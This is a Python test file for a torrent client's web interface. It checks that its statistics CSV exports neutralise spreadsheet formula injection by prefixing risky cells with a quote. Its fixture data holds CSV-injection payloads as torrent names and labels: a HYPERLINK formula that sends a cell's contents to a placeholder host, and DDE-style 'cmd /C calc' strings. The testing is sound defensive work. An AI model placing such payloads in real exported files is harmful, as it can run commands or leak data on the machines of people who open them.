"""Formula injection through the statistics CSV: torrents named and labelled like spreadsheet
formulas move real bytes between two real rtorrents (through a real opentracker), the
sampler the worker runs records them, and every stats.csv pyroTorrent writes (one target
and all, by label and by torrent) must hand them back as text a spreadsheet will not run:
a cell starting with = + - @ tab or CR gets a leading ' (OWASP), numbers stay numbers.
(A CR cannot reach rtorrent: XML turns it into a line feed; lib/csvsafe's own test has it.)"""
import csv
import io
import os
import re
import time

import pytest

from lib.store import Store
from model.clients.rtorrent import RTorrent
from model.stats import Policy, Sampler, time_zone
from tests import rig
from tests.webapp import client

# rtorrent refuses a name holding "/": the names carry no slash, the labels do
TORRENTS = [
    ('=HYPERLINK("http:\\\\x.example?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+cmd|' -C calc'!A0", '-2+3+cmd|"/C calc"!A0'),
    ('-42', '\t=1+1'),
    ('plain name', 'Linux ISOs'),
]
NUMBER = re.compile(r'-?\d+(\.\d+)?\Z')
STEP = 0.5


@pytest.fixture(scope='module')
def recorded(tmp_path_factory):
    """The store the sampler filled while every torrent of TORRENTS moved from the seeder to
    the leecher; (store path, {name: label})."""
    workdir = str(tmp_path_factory.mktemp('attack-csv'))
    tracker = rig.Tracker(os.path.join(workdir, 'tracker')).start()
    try:
        with rig.seeder_and_leecher(workdir, down_kib=100000) as (seeder, leecher):
            store = Store.open(os.path.join(workdir, 'store.sqlite3'))
            # a long interval (seeding each torrent takes seconds: a gap would make all a baseline),
            # every call due all the same (tick: the worker's own slack)
            sampler = Sampler(store, Policy(seconds=60, zone=time_zone('UTC')))
            backends = [RTorrent(seeder.url, name='seeder'), RTorrent(leecher.url, name='leecher')]

            def sample():
                for backend in backends:
                    sampler.sample(backend, tick=120)
            sample()                                     # the baselines, before anything is loaded
            hashes = []
            for n, (name, label) in enumerate(TORRENTS):
                data = os.path.join(workdir, 'data%d' % n)
                path = rig.make_payload(data, name, 256 * 1024)
                torrent = rig.make_torrent(path, tracker.announce_url, os.path.join(workdir, '%d.torrent' % n),
                                           piece_size_exp=16)
                hashes.append(seeder.seed(torrent, data, tracker, label=label))
                leecher.load(torrent, directory=leecher.download_dir, label=label)
            deadline = time.monotonic() + 60
            while not all(leecher.call('d.complete', h) == 1 for h in hashes):
                assert time.monotonic() < deadline, 'the transfers did not finish in 60 s'
                time.sleep(STEP)
                sample()
            time.sleep(STEP)
            sample()
            assert leecher.call('d.name', hashes[0]) == TORRENTS[0][0]
            assert leecher.call('d.custom1', hashes[0]) == TORRENTS[0][1]
            yield store.path, seeder, leecher
    finally:
        tracker.stop()


def cells(answer):
    assert answer.status_code == 200 and answer.mimetype == 'text/csv'
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True), newline='')))


def test_no_cell_of_any_stats_csv_is_a_formula(recorded):
    path, seeder, leecher = recorded
    web = client({'seeder': seeder.url, 'leecher': leecher.url}, STORE=path, TIME_ZONE='UTC')
    names = {name for name, _ in TORRENTS}
    labels = {label for _, label in TORRENTS}
    for url in ('/target/leecher/stats.csv', '/target/seeder/stats.csv', '/stats.csv'):
        for by, column, hostile in (('label', 0, labels), ('torrent', 1, names)):
            rows = cells(web.get(url, query_string={'range': 'hour', 'by': by}))
            assert rows[0][:4] == [by, 'name', 'down_bytes', 'up_bytes']
            shown = {row[column] for row in rows[1:]}
            for text in hostile:
                if NUMBER.match(text):
                    assert text in shown, (url, by, text)             # a number stays a number
                elif text[0] in '=+-@\t\r':
                    assert "'" + text in shown, (url, by, text, shown)   # neutralised, all of it kept
                else:
                    assert text in shown, (url, by, text)
            for row in rows[1:]:
                for cell in row:
                    assert not cell or cell[0] not in '=+-@\t\r' or NUMBER.match(cell), (url, by, row)
                assert NUMBER.match(row[2]) and NUMBER.match(row[3]), row
            assert sum(int(row[2]) + int(row[3]) for row in rows[1:]) >= 256 * 1024 * len(TORRENTS)
        chart = cells(web.get(url, query_string={'range': 'hour'}))
        assert chart[0] == ['start', 'end', 'down_bytes', 'up_bytes', 'gap']
        assert all(NUMBER.match(row[2]) and NUMBER.match(row[3]) for row in chart[1:])


def test_the_writer_keeps_numbers_and_neutralises_every_formula_start():
    from lib import csvsafe
    out = io.StringIO()
    w = csvsafe.writer(out)
    w.writerow(['=1+1', '+1', '-1', '-1.5e3', '-2+3', '@x', '\tx', '\rx', 'plain', '', None, 7, -7])
    assert out.getvalue() == ('"\'=1+1","+1","-1","-1.5e3","\'-2+3","\'@x","\'\tx","\'\rx","plain","","",7,-7\r\n')
